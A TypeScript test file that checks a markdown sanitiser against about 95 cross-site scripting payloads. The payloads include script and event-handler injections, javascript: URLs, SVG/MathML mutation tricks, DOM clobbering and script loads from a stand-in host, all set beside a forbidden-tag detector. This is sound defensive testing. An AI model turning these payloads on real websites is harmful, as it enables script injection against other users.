// What an author may try, and what must be left of it. The list grew out of the payloads of known escapes.

import type { Root } from 'hast';
import { fromParse5 } from 'hast-util-from-parse5';
import { parseFragment } from 'parse5';
import { describe, expect, test } from 'vitest';
import { markdownToTree } from './markdown-to-tree.ts';
import { renderMarkdown } from './render.ts';
import { elementsOf } from './tree.ts';

const payloads = [
  '<script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script src=//evil.example/x.js></script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror="alert(1)" onload=alert(2)>',
  '<img/src="x"/onerror=alert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set attributeName=href to=javascript:alert(1)>',
  '<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">x</math>',
  '<math><maction actiontype="statusline#http://evil" xlink:href="javascript:alert(1)">x</maction></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<textarea><script>alert(1)</script></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<style>@import "//evil.example";</style>',
  '<style><img src="</style><img src=x onerror=alert(1)//">',
  '<link rel=stylesheet href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="javascript:/">',
  '<iframe src=javascript:alert(1)></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
  '<object data=javascript:alert(1)></object>',
  '<embed src=javascript:alert(1)>',
  '<applet code=x></applet>',
  '<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '![x](javascript:alert(1))',
  '<javascript:alert(1)>',
  '[x]: javascript:alert(1)\n\n[x]',
  '[x](&#106;avascript:alert(1))',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<button formaction=javascript:alert(1)>x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<input type=image src=x onerror=alert(1)>',
  '<isindex action=javascript:alert(1)>',
  '<video src=x onerror=alert(1)></video>',
  '<video poster=javascript:alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1)>',
  '<div onpointerenter=alert(1)>x</div>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="position:fixed;inset:0;z-index:99">x</p>',
  '<table background="javascript:alert(1)"><tr><td>x</table>',
  '<font color="red" onmouseover=alert(1)>x</font>',
  '<div id=location><div id=document>',
  '<img name=cookie><a id=body href=x>',
  '$\\href{javascript:alert(1)}{x}$',
  '$\\htmlData{onclick=alert(1)}{x}$',
  '$\\includegraphics{javascript:alert(1)}$',
  '$<img src=x onerror=alert(1)>$',
  '```html\n<script>alert(1)</script>\n```',
  '```"onmouseover="alert(1)\nx\n```',
  '```mermaid\n<img src=x onerror=alert(1)>\n```',
  '```http\nGET javascript:alert(1)\n```',
  '# <img src=x onerror=alert(1)>',
  '# x {#"onclick="alert(1)}',
  '[TOC]\n\n# <script>alert(1)</script> a',
  '<b <script>alert(1)</script>0',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml <img src=x onerror=alert(1)> ?>',
  '<a href="x" ping="//evil.example">x</a>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<select><style></select><img src=x onerror=alert(1)></style>',
  '<select><template><style><!--</style><a rel="--></style></template></select><img id=x src=x onerror=alert(1)>">',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  '> [!NOTE]\n> <svg/onload=alert(1)>',
  'x[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
  '^[<script>alert(1)</script>]x',
];

const drawnByUs = new Set(['svg', 'path', 'circle', 'math', 'annotation']);
const forbidden = new Set([
  'script',
  'style',
  'object',
  'embed',
  'applet',
  'form',
  'button',
  'base',
  'meta',
  'link',
  'template',
  'frame',
  'frameset',
  'textarea',
  'select',
  'iframe',
  'foreignobject',
  'animate',
  'set',
  'isindex',
  'plaintext',
  'marquee',
  'xmp',
  'noscript',
  'title',
]);

function dangers(tree: Root): string[] {
  return elementsOf(tree).flatMap(node => {
    const found = forbidden.has(node.tagName.toLowerCase()) ? [`<${node.tagName}>`] : [];
    for (const [name, value] of Object.entries(node.properties)) {
      const bare = Array.from(String(value))
        .filter(letter => letter > ' ')
        .join('')
        .toLowerCase();
      if (
        /^on/i.test(name) ||
        ['srcDoc', 'formAction', 'action', 'ping', 'xLinkHref', 'background'].includes(name)
      )
        found.push(name);
      if (
        ['href', 'src', 'poster', 'style'].includes(name) &&
        /javascript:|vbscript:|data:|expression|url\(|position:fixed/.test(bare)
      )
        found.push(`${name}=${bare}`);
      if (name === 'id' && ['location', 'document', 'body', 'cookie'].includes(bare))
        found.push(`id=${bare}`);
    }
    return found;
  });
}

const reparsed = (html: string): Root => {
  const tree = fromParse5(parseFragment(html));
  return tree.type === 'root' ? tree : { type: 'root', children: [] };
};

describe('an author cannot make a page act', () => {
  test('the list holds more than 55 payloads', () => expect(payloads.length).toBeGreaterThan(90));

  test.each(payloads)('%s', payload => {
    for (const text of [
      payload,
      `${payload}\n`,
      `before ${payload} after`,
      `- > ${payload}`,
      `<div>\n\n${payload}\n\n</div>`,
    ]) {
      expect(dangers(markdownToTree(text)), 'after the sanitiser').toEqual([]);
      expect(dangers(reparsed(renderMarkdown(text).html)), 'as a browser reads what we print').toEqual([]);
    }
  });

  test('nothing we draw ourselves can come from the author', () => {
    const names = payloads.flatMap(payload => elementsOf(markdownToTree(payload)).map(node => node.tagName));
    expect(names.filter(name => drawnByUs.has(name))).toEqual([]);
  });
});

describe('what editor.md users write passes', () => {
  const html = (markdown: string, hosts: string[] = []): string =>
    renderMarkdown(markdown, { iframe_hosts: hosts }).html;

  test.each([
    [
      '<font color="#f00" size="4" face="KaiTi">x</font>',
      '<font color="#f00" size="4" face="KaiTi">x</font>',
    ],
    ['<u>a</u> <mark>b</mark> <kbd>c</kbd> <center>d</center>', '<u>a</u> <mark>b</mark> <kbd>c</kbd>'],
    [
      '<p style="color: red; position: fixed; text-align: center">x</p>',
      '<p style="color: red; text-align: center">x</p>',
    ],
    [
      '<span style="background:#ff0;font-size:20px">x</span>',
      '<span style="background-color: #ff0; font-size: 20px">x</span>',
    ],
    ['<span style="font-size:900px">x</span>', '<span>x</span>'],
    [
      '<video src="/a.mp4" width="320" onplay="x()"></video>',
      '<video src="/a.mp4" width="320" controls preload="metadata"></video>',
    ],
    ['<details><summary>a</summary>b</details>', '<details><summary>a</summary>b</details>'],
    ['![p](data:image/png;base64,iVBORw0KGgo=)', 'src="data:image/png;base64,iVBORw0KGgo="'],
  ])('%s', (markdown, expected) => expect(html(markdown)).toContain(expected));

  test('a table keeps its spans, alignment and width', () => {
    const printed = html(
      '<table width="80%"><tr><td rowspan="2" valign="top">a</td><td colspan="2" align="right">b</td></tr></table>',
    );
    for (const part of ['width="80%"', 'rowspan="2"', 'valign="top"', 'colspan="2"', 'align="right"'])
      expect(printed).toContain(part);
  });

  test('a frame of a listed host is sandboxed and lazy', () => {
    const printed = html(
      '<iframe src="//player.example/v?id=1" onload="x()" sandbox="allow-top-navigation"></iframe>',
      ['player.example'],
    );
    expect(printed).toContain('src="https://player.example/v?id=1"');
    expect(printed).toContain('loading="lazy"');
    expect(printed).not.toContain('allow-top-navigation');
    expect(printed).not.toContain('onload');
  });

  test.each([
    'https://player.example.evil.example/',
    'https://player.example@evil.example/',
    'http://player.example/',
    '/frame',
    'https://evil.example/#player.example',
  ])('a frame of %s is not the listed host', address =>
    expect(html(`<iframe src="${address}"></iframe>`, ['player.example'])).not.toContain('<iframe'),
  );

  test('the text of a frame nobody listed becomes a link', () => {
    expect(html('<iframe src="https://a.example/v"></iframe>')).toContain('<a href="https://a.example/v"');
  });
});
